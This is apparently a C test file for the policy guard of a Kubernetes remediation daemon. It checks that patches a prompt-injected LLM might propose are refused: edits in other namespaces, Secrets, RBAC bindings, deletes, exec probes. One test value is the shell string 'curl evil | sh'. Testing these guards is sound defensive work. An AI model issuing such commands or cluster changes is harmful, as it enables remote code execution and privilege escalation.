/*
 * test_policy.c - the policy wall: the defaults, every rule with the rule
 * name it reports, the prompt-injection proposals (another namespace, a
 * Secret, a ClusterRoleBinding, a delete, 500 operations, a path outside
 * the allowlist), the same against StatefulSets, DaemonSets, CronJobs and
 * bare Pods, path patterns, and the policy.* configuration keys through
 * config_load().
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <jansson.h>

#include "action/policy.h"
#include "conf/config.h"
#include "t.h"

static struct policy	pol;

/* A request against Deployment demo/web, owner demo/web. */
static struct policy_request
req(json_t *patch)
{
	struct policy_request	r;

	memset(&r, 0, sizeof(r));
	r.kind = "Deployment";
	r.ns = "demo";
	r.name = "web";
	r.patch = patch;
	r.owner_kind = "Deployment";
	r.owner_ns = "demo";
	r.owner_name = "web";
	return r;
}

static json_t *
image_patch(void)
{
	return json_pack("[{s:s,s:s,s:i}, {s:s,s:s,s:s}, {s:s,s:s,s:s}]",
	    "op", "test", "path", "/metadata/generation", "value", 3,
	    "op", "test", "path", "/spec/template/spec/containers/0/image",
	    "value", "nginx:1.27-typo",
	    "op", "replace", "path", "/spec/template/spec/containers/0/image",
	    "value", "nginx:1.25");
}

/* The verdict's rule, "allowed" when none. */
static const char *
check(struct policy_request *r, struct policy_verdict *v)
{
	int	rc = policy_check(&pol, r, v);

	if (rc == 0)
		return "allowed";
	if (v->message[0] == '\0')
		return "refused without a message";
	return v->rule;
}

static void
test_paths(void)
{
	CHECK(policy_path_match("/spec/replicas", "/spec/replicas"));
	CHECK(!policy_path_match("/spec/replicas", "/spec/replicasX"));
	CHECK(!policy_path_match("/spec/replicas", "/spec"));
	CHECK(policy_path_match("/spec/template/spec/containers/*/resources",
	    "/spec/template/spec/containers/1/resources/limits/memory"));
	CHECK(!policy_path_match("/spec/template/spec/containers/*/resources",
	    "/spec/template/spec/containers/1/env"));
	CHECK(!policy_path_match("/spec/template/spec/containers/*/image",
	    "/spec/template/spec/containers"));
	CHECK(!policy_path_match("", ""));
	CHECK(!policy_path_match("/a", ""));
	CHECK(policy_path_match("/metadata/annotations/a~1b",
	    "/metadata/annotations/a~1b"));
}

static void
test_allowed(void)
{
	struct policy_verdict	 v;
	struct policy_request	 r;
	json_t			*p = image_patch();

	r = req(p);
	CHECK_STR(check(&r, &v), "allowed");
	CHECK(v.rule == NULL);
	/* the daemon's own annotation is always allowed and never counted */
	json_array_append_new(p, json_pack("{s:s,s:s,s:s}", "op", "add",
	    "path", POLICY_ACTION_ANNOTATION_PATH, "value", "7"));
	CHECK_STR(check(&r, &v), "allowed");
	json_decref(p);
	p = json_pack("[{s:s,s:s,s:{s:s}}]", "op", "add", "path",
	    "/metadata/annotations", "value", POLICY_ACTION_ANNOTATION, "7");
	r = req(p);
	CHECK_STR(check(&r, &v), "allowed");
	json_decref(p);
	/* but not other annotations through the same door */
	p = json_pack("[{s:s,s:s,s:{s:s,s:s}}]", "op", "add", "path",
	    "/metadata/annotations", "value", POLICY_ACTION_ANNOTATION, "7",
	    "evil", "x");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
	json_decref(p);
	/* replicas within bounds */
	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
	    "/spec/replicas", "value", 3);
	r = req(p);
	CHECK_STR(check(&r, &v), "allowed");
	json_decref(p);
	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
	    "/spec/replicas", "value", 5000);
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_REPLICAS);
	CHECK(strstr(v.message, "policy.max_replicas") != NULL);
	json_decref(p);
	p = json_pack("[{s:s,s:s,s:s}]", "op", "replace", "path",
	    "/spec/replicas", "value", "3");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_REPLICAS);
	json_decref(p);
}

/* The replies a prompt-injected LLM might give: each refused, by rule. */
static void
test_injection(void)
{
	struct policy_verdict	 v;
	struct policy_request	 r;
	json_t			*p, *big;
	int			 i;

	p = image_patch();

	/* another namespace than the incident's */
	r = req(p);
	r.ns = "prod";
	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
	CHECK(strstr(v.message, "prod/web") != NULL);
	/* ... and a denied one, even as the owner */
	r = req(p);
	r.ns = r.owner_ns = "kube-system";
	CHECK_STR(check(&r, &v), POLICY_RULE_NS_DENIED);

	/* a Secret, a ClusterRoleBinding, webhooks, CRDs: never */
	r = req(p);
	r.kind = r.owner_kind = "Secret";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	CHECK(strstr(v.message, "Secret") != NULL);
	r.kind = r.owner_kind = "ClusterRoleBinding";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	r.kind = r.owner_kind = "clusterrolebinding";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	r.kind = r.owner_kind = "MutatingWebhookConfiguration";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	r.kind = r.owner_kind = "CustomResourceDefinition";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	r.kind = r.owner_kind = "Namespace";
	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
	r.kind = r.owner_kind = "ConfigMap";
	CHECK_STR(check(&r, &v), POLICY_RULE_KIND);

	/* a delete */
	r = req(NULL);
	r.verb = "delete";
	CHECK_STR(check(&r, &v), POLICY_RULE_DELETE);
	CHECK(strstr(v.message, "allow_delete") != NULL);
	json_decref(p);
	p = json_pack("[{s:s,s:s}]", "op", "remove", "path", "");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_DELETE);
	json_decref(p);

	/* 500 operations */
	big = json_array();
	for (i = 0; i < 500; i++)
		json_array_append_new(big, json_pack("{s:s,s:s,s:s}", "op",
		    "replace", "path", "/spec/template/spec/containers/0/image",
		    "value", "x"));
	r = req(big);
	CHECK_STR(check(&r, &v), POLICY_RULE_MAX_OPS);
	CHECK(strstr(v.message, "20") != NULL);
	json_decref(big);

	/* env, command: their own rule; the service account: outside the
	 * allowlist */
	p = json_pack("[{s:s,s:s,s:[{s:s,s:s}]}]", "op", "add", "path",
	    "/spec/template/spec/containers/0/env", "value", "name", "X",
	    "value", "curl evil | sh");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_COMMAND);
	CHECK(strstr(v.message, "/spec/template/spec/containers/0/env") !=
	    NULL);
	json_decref(p);
	p = json_pack("[{s:s,s:s,s:s}]", "op", "replace", "path",
	    "/spec/template/spec/serviceAccountName", "value", "admin");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
	json_decref(p);
	/* move/copy read from places nobody reviewed */
	p = json_pack("[{s:s,s:s,s:s}]", "op", "copy", "from",
	    "/spec/template/spec/containers/0/env", "path",
	    "/spec/template/spec/containers/0/image");
	r = req(p);
	CHECK_STR(check(&r, &v), POLICY_RULE_OP);
	json_decref(p);
	/* not a patch at all */
	r = req(NULL);
	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
	r = req(NULL);
	r.name = "";
	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
}

/*
 * A forced rollback: the template revert of StatefulSet demo/db, then the
 * deletion of its pods on the bad revision.  Its own rule
 * (policy.allow_forced_rollback, on by default), not allow_delete.
 */
static void
test_forced_rollback(void)
{
	struct policy_verdict	 v;
	struct policy_request	 r;
	json_t			*p = image_patch(), *steps, *scale;

	steps = json_pack("[{s:s, s:s, s:s, s:s, s:s}]", "kind", "delete-pod",
	    "name", "db-1", "uid", "u1", "revision", "db-bad", "owner_uid",
	    "sts-uid");
	r = req(p);
	r.kind = r.owner_kind = "StatefulSet";
	r.name = r.owner_name = "db";
	r.steps = steps;
	CHECK_INT(pol.allow_forced_rollback, 1);
	CHECK_INT(pol.allow_delete, 0);
	CHECK_STR(check(&r, &v), "allowed");

	pol.allow_forced_rollback = 0;
	CHECK_STR(check(&r, &v), POLICY_RULE_FORCED_ROLLBACK);
	CHECK(strstr(v.message, "step 2: deleting pod demo/db-1") != NULL);
	CHECK(strstr(v.message, "policy.allow_forced_rollback is false") !=
	    NULL);
	pol.allow_delete = 1;	/* allow_delete does not open it */
	CHECK_STR(check(&r, &v), POLICY_RULE_FORCED_ROLLBACK);
	pol.allow_delete = 0;
	pol.allow_forced_rollback = 1;

	/* only pods of the action's own StatefulSet */
	json_object_set_new(json_array_get(steps, 0), "name",
	    json_string("web-1"));
	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
	CHECK(strstr(v.message, "pod demo/web-1 is not a pod of StatefulSet "
	    "demo/db") != NULL);
	json_object_set_new(json_array_get(steps, 0), "name",
	    json_string("db-1x"));
	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
	json_object_set_new(json_array_get(steps, 0), "name",
	    json_string("db-"));
	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
	json_object_set_new(json_array_get(steps, 0), "name",
	    json_string("db-12"));
	CHECK_STR(check(&r, &v), "allowed");
	r.kind = r.owner_kind = "Deployment";
	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
	CHECK(strstr(v.message, "only the forced rollback of a StatefulSet")
	    != NULL);
	r.kind = r.owner_kind = "StatefulSet";

	/* after a template revert only */
	scale = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
	    "/spec/replicas", "value", 2);
	r.patch = scale;
	CHECK_STR(check(&r, &v), POLICY_RULE_FORCED_ROLLBACK);
	CHECK(strstr(v.message, "nothing under /spec/template") != NULL);
	r.patch = p;

	/* malformed steps */
	json_object_del(json_array_get(steps, 0), "uid");
	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
	CHECK(strstr(v.message, "step 2 (delete-pod): needs a string uid") !=
	    NULL);
	json_object_set_new(json_array_get(steps, 0), "kind",
	    json_string("delete-statefulset"));
	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
	CHECK(strstr(v.message, "unknown kind") != NULL);
	json_decref(steps);
	steps = json_object();
	r.steps = steps;
	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
	json_decref(steps);
	json_decref(scale);
	json_decref(p);
}

/* One write op against kind demo/web (its own root owner). */
static const char *
check_kind(const char *kind, const char *op, const char *path, json_t *value,
    struct policy_verdict *v)
{
	struct policy_request	 r;
	json_t			*p;
	const char		*rule;

	p = json_pack("[{s:s, s:s, s:o}]", "op", op, "path", path, "value",
	    value ? value : json_string("x"));
	r = req(p);
	r.kind = r.owner_kind = kind;
	rule = check(&r, v);
	json_decref(p);
	return rule;
}

/*
 * The kinds a fix may target besides Deployments, and the same injection
 * corpus against them: each may write its own paths only; a bare Pod only
 * what a running Pod lets an update change.
 */
static void
test_kinds(void)
{
	struct policy_verdict	 v;
	static const char *const tmpl_kinds[] = { "StatefulSet", "DaemonSet" };
	size_t			 i;

	for (i = 0; i < 2; i++) {
		const char *k = tmpl_kinds[i];

		CHECK_STR(check_kind(k, "replace",
		    "/spec/template/spec/containers/0/image", NULL, &v),
		    "allowed");
		CHECK_STR(check_kind(k, "add",
		    "/spec/template/spec/containers/0/env", NULL, &v),
		    POLICY_RULE_COMMAND);
		CHECK_STR(check_kind(k, "replace",
		    "/spec/template/spec/serviceAccountName", NULL, &v),
		    POLICY_RULE_PATH);
		CHECK_STR(check_kind(k, "remove", "", NULL, &v),
		    POLICY_RULE_DELETE);
	}
	CHECK_STR(check_kind("StatefulSet", "replace", "/spec/replicas",
	    json_integer(3), &v), "allowed");
	CHECK_STR(check_kind("DaemonSet", "replace", "/spec/replicas",
	    json_integer(3), &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("CronJob", "replace", "/spec/jobTemplate/spec/"
	    "template/spec/containers/0/image", NULL, &v), "allowed");

	/* command, args, env: their own rule, even where paths allow */
	CHECK_STR(check_kind("Deployment", "replace",
	    "/spec/template/spec/containers/0/command/0", json_string("sh"),
	    &v), POLICY_RULE_COMMAND);
	CHECK(strstr(v.message, "policy.allow_command_edits") != NULL);
	CHECK_STR(check_kind("Deployment", "remove",
	    "/spec/template/spec/initContainers/1/args", NULL, &v),
	    POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Deployment", "replace",
	    "/spec/template/spec/containers/0/env/2/value", json_string("x"),
	    &v), POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("CronJob", "add", "/spec/jobTemplate/spec/"
	    "template/spec/containers/0/envFrom", json_pack("[]"), &v),
	    POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Pod", "add", "/spec/containers/-", json_pack(
	    "{s:s, s:[s]}", "name", "x", "command", "sh"), &v),
	    POLICY_RULE_COMMAND);
	/* a container named "env" or an annotation "command" is no command */
	CHECK_STR(check_kind("Deployment", "replace",
	    "/spec/template/spec/containers/0/image", json_string("env"), &v),
	    "allowed");
	CHECK_STR(check_kind("Deployment", "replace",
	    "/metadata/annotations/command", json_string("x"), &v),
	    POLICY_RULE_PATH);
	pol.allow_command_edits = 1;
	CHECK_STR(check_kind("Deployment", "replace",
	    "/spec/template/spec/containers/0/command/0", json_string("sh"),
	    &v), POLICY_RULE_PATH);
	pol.allow_command_edits = 0;

	/* Service: its selector, nothing else */
	CHECK_STR(check_kind("Service", "replace", "/spec/selector/app",
	    json_string("web"), &v), "allowed");
	CHECK_STR(check_kind("Service", "replace", "/spec/selector",
	    json_pack("{s:s}", "app", "web"), &v), "allowed");
	CHECK_STR(check_kind("Service", "replace", "/spec/ports/0/port",
	    json_integer(8080), &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("Service", "replace", "/spec/type",
	    json_string("NodePort"), &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("Service", "add", "/spec/externalIPs",
	    json_pack("[s]", "1.2.3.4"), &v), POLICY_RULE_PATH);

	/* where pods run: nodeSelector, node affinity, tolerations with a
	 * key; never pod affinity */
	for (i = 0; i < 2; i++) {
		const char *k = i == 0 ? "Deployment" : "DaemonSet";

		CHECK_STR(check_kind(k, "replace",
		    "/spec/template/spec/nodeSelector/disktype",
		    json_string("ssd"), &v), "allowed");
		CHECK_STR(check_kind(k, "replace", "/spec/template/spec/"
		    "affinity/nodeAffinity/requiredDuringSchedulingIgnoredDuring"
		    "Execution/nodeSelectorTerms/0/matchExpressions/0/values/0",
		    json_string("zone-a"), &v), "allowed");
		CHECK_STR(check_kind(k, "add", "/spec/template/spec/affinity/"
		    "podAntiAffinity", json_object(), &v), POLICY_RULE_PATH);
		CHECK_STR(check_kind(k, "add", "/spec/template/spec/"
		    "tolerations/-", json_pack("{s:s, s:s, s:s}", "key",
		    "dedicated", "operator", "Exists", "effect", "NoSchedule"),
		    &v), "allowed");
		CHECK_STR(check_kind(k, "replace", "/spec/template/spec/"
		    "tolerations/0/effect", json_string("NoSchedule"), &v),
		    "allowed");
		CHECK_STR(check_kind(k, "remove", "/spec/template/spec/"
		    "tolerations/0", NULL, &v), "allowed");
		/* no key: tolerates every taint */
		CHECK_STR(check_kind(k, "add", "/spec/template/spec/"
		    "tolerations/-", json_pack("{s:s}", "operator", "Exists"),
		    &v), POLICY_RULE_TOLERATION);
		CHECK(strstr(v.message, "tolerates every taint") != NULL);
		CHECK_STR(check_kind(k, "add", "/spec/template/spec/"
		    "tolerations", json_pack("[{s:s, s:s}, {s:s}]", "key", "a",
		    "operator", "Exists", "operator", "Exists"), &v),
		    POLICY_RULE_TOLERATION);
		CHECK_STR(check_kind(k, "replace", "/spec/template/spec/"
		    "tolerations/0/key", json_string(""), &v),
		    POLICY_RULE_TOLERATION);
		CHECK_STR(check_kind(k, "remove", "/spec/template/spec/"
		    "tolerations/0/key", NULL, &v), POLICY_RULE_TOLERATION);
	}
	CHECK_STR(check_kind("Pod", "add", "/spec/tolerations/-", json_pack(
	    "{s:s}", "operator", "Exists"), &v), POLICY_RULE_TOLERATION);

	/* a probe may be rewritten, but never to run a command */
	CHECK_STR(check_kind("Deployment", "replace", "/spec/template/spec/"
	    "containers/0/readinessProbe/httpGet/path", json_string("/"), &v),
	    "allowed");
	CHECK_STR(check_kind("Deployment", "add", "/spec/template/spec/"
	    "containers/0/livenessProbe/exec/command", json_pack("[s, s]",
	    "sh", "-c"), &v), POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Deployment", "replace", "/spec/template/spec/"
	    "containers/0/livenessProbe/exec/command/0", json_string("sh"),
	    &v), POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Deployment", "add", "/spec/template/spec/"
	    "containers/0/readinessProbe/exec", json_object(), &v),
	    POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Deployment", "replace", "/spec/template/spec/"
	    "containers/0/readinessProbe", json_pack("{s:{s:[s]}}", "exec",
	    "command", "id"), &v), POLICY_RULE_COMMAND);

	/* a Service's selector is never emptied */
	CHECK_STR(check_kind("Service", "remove", "/spec/selector", NULL, &v),
	    POLICY_RULE_SELECTOR);
	CHECK_STR(check_kind("Service", "replace", "/spec/selector",
	    json_object(), &v), POLICY_RULE_SELECTOR);
	CHECK_STR(check_kind("Service", "replace", "/spec/selector",
	    json_pack("{s:s}", "app", ""), &v), POLICY_RULE_SELECTOR);
	CHECK_STR(check_kind("Service", "add", "/spec/selector/tier",
	    json_integer(1), &v), POLICY_RULE_SELECTOR);
	CHECK_STR(check_kind("Service", "remove", "/spec/selector/tier", NULL,
	    &v), "allowed");

	/* Pod: images, activeDeadlineSeconds, added tolerations */
	CHECK_STR(check_kind("Pod", "replace", "/spec/containers/0/image",
	    NULL, &v), "allowed");
	CHECK_STR(check_kind("Pod", "replace", "/spec/initContainers/1/image",
	    NULL, &v), "allowed");
	CHECK_STR(check_kind("Pod", "add", "/spec/activeDeadlineSeconds",
	    json_integer(600), &v), "allowed");
	CHECK_STR(check_kind("Pod", "add", "/spec/tolerations/2", json_pack(
	    "{s:s, s:s}", "key", "k", "operator", "Exists"), &v), "allowed");
	CHECK_STR(check_kind("Pod", "remove", "/spec/tolerations/0", NULL,
	    &v), POLICY_RULE_PATH);
	CHECK(strstr(v.message, "may only be added to") != NULL);
	CHECK_STR(check_kind("Pod", "replace", "/spec/tolerations/0/key",
	    NULL, &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("Pod", "add", "/spec/containers/0/command",
	    json_pack("[s]", "sh"), &v), POLICY_RULE_COMMAND);
	CHECK_STR(check_kind("Pod", "add", "/spec/containers/0/workingDir",
	    json_string("/"), &v), POLICY_RULE_PATH);
	CHECK(strstr(v.message, "policy.paths.Pod") != NULL);
	CHECK_STR(check_kind("Pod", "replace", "/spec/containers/0/resources",
	    NULL, &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("Pod", "replace", "/spec/serviceAccountName",
	    NULL, &v), POLICY_RULE_PATH);
	CHECK_STR(check_kind("Pod", "replace", "/spec/nodeName", NULL, &v),
	    POLICY_RULE_PATH);
	CHECK_STR(check_kind("Pod", "remove", "", NULL, &v),
	    POLICY_RULE_DELETE);
	/* a Pod of a workload is not the incident's root owner */
	{
		struct policy_request	 r;
		json_t			*p = json_pack("[{s:s, s:s, s:s}]",
					    "op", "replace", "path",
					    "/spec/containers/0/image",
					    "value", "x");

		r = req(p);
		r.kind = "Pod";
		r.name = "web-5d9f-abcde";
		CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
		json_decref(p);
	}
}

static int
write_file(const char *path, const char *text)
{
	FILE	*f;

	if ((f = fopen(path, "w")) == NULL)
		return -1;
	fputs(text, f);
	return fclose(f);
}

/* Load text as a config; returns the error count, errs kept in *errs. */
static int
load(const char *dir, const char *text, struct remedy_config *cfg,
    char **errs)
{
	char	path[256];

	snprintf(path, sizeof(path), "%s/policy.yaml", dir);
	if (write_file(path, text) != 0)
		return -1;
	config_init(cfg);
	return config_load(path, cfg, errs);
}

static void
test_config(void)
{
	struct remedy_config	 cfg;
	struct policy_verdict	 v;
	struct policy_request	 r;
	char			 dir[] = "/tmp/test_policy.XXXXXX", *errs = NULL;
	char			 cmd[128];
	json_t			*p;
	int			 n;

	if (mkdtemp(dir) == NULL) {
		CHECK(0);
		return;
	}
	n = load(dir, "policy:\n"
	    "  kinds: [Deployment, Rollout]\n"
	    "  paths:\n"
	    "    Rollout: [/spec/template/spec/containers/*/image]\n"
	    "    Deployment: [/spec/replicas]\n"
	    "  namespaces: { allow: [demo], deny: [] }\n"
	    "  max_operations: 2\n"
	    "  max_replicas: 4\n"
	    "  allow_delete: true\n"
	    "  allow_forced_rollback: false\n"
	    "actions: { pending_ttl: 1h }\n", &cfg, &errs);
	CHECK_INT(n, 0);
	if (errs)
		fprintf(stderr, "%s", errs);
	free(errs);
	errs = NULL;
	CHECK_INT(cfg.pending_ttl_ms, 3600 * 1000);
	CHECK_INT(cfg.policy.max_operations, 2);
	CHECK_INT(cfg.policy.allow_delete, 1);
	CHECK_INT(cfg.policy.allow_forced_rollback, 0);
	p = image_patch();
	r = req(p);
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    POLICY_RULE_PATH);	/* Deployment may now only scale */
	r.kind = r.owner_kind = "Rollout";
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    "allowed");
	r.kind = r.owner_kind = "StatefulSet";	/* no longer in kinds */
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    POLICY_RULE_KIND);
	r = req(p);
	r.ns = r.owner_ns = "other";
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    POLICY_RULE_NS_NOT_ALLOWED);
	r = req(NULL);
	r.verb = "delete";
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    "allowed");
	json_decref(p);
	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
	    "/spec/replicas", "value", 5);
	r = req(p);
	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
	    POLICY_RULE_REPLICAS);
	json_decref(p);
	config_clear(&cfg);

	/* forbidden kinds cannot be configured in; bad values are named */
	n = load(dir, "policy:\n"
	    "  kinds: [Deployment, Secret]\n"
	    "  paths: { ClusterRoleBinding: [/subjects] , Deployment: [spec] }\n"
	    "  namespaces: { allow: [demo], maybe: [x] }\n"
	    "  max_operations: 0\n"
	    "  allow_delete: perhaps\n"
	    "  allow_forced_rollback: sometimes\n"
	    "  nonsense: 1\n", &cfg, &errs);
	CHECK_INT(n, 8);
	CHECK(errs != NULL);
	if (errs != NULL) {
		CHECK(strstr(errs, "policy.yaml:2:23: policy.kinds[1]: Secret "
		    "can never be allowed") != NULL);
		CHECK(strstr(errs, "policy.paths.ClusterRoleBinding: "
		    "ClusterRoleBinding can never be allowed") != NULL);
		CHECK(strstr(errs, "policy.paths.Deployment[0]: \"spec\" is not "
		    "a JSON Pointer") != NULL);
		CHECK(strstr(errs, "unknown key \"maybe\" in policy.namespaces")
		    != NULL);
		CHECK(strstr(errs, "policy.max_operations: \"0\" is not an "
		    "integer from 1 to 1000") != NULL);
		CHECK(strstr(errs, "policy.allow_delete: expected true or "
		    "false") != NULL);
		CHECK(strstr(errs, "policy.yaml:7:26: "
		    "policy.allow_forced_rollback: expected true or false") !=
		    NULL);
		CHECK(strstr(errs, "unknown key \"nonsense\" in policy") !=
		    NULL);
	}
	free(errs);
	/* the refused kinds list left the defaults in place */
	CHECK(cfg.policy.nkinds == 7 && cfg.policy.kinds[0].allowed);
	config_clear(&cfg);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	if (system(cmd) != 0)
		fprintf(stderr, "could not remove %s\n", dir);
}

int
main(void)
{
	CHECK_INT(policy_init_defaults(&pol), 0);
	CHECK_INT(pol.max_operations, 20);
	CHECK_INT(pol.allow_delete, 0);
	CHECK(policy_kind_forbidden("Secret"));
	CHECK(!policy_kind_forbidden("Deployment"));
	test_paths();
	test_allowed();
	test_injection();
	test_forced_rollback();
	test_kinds();
	test_config();
	policy_clear(&pol);
	return T_DONE();
}
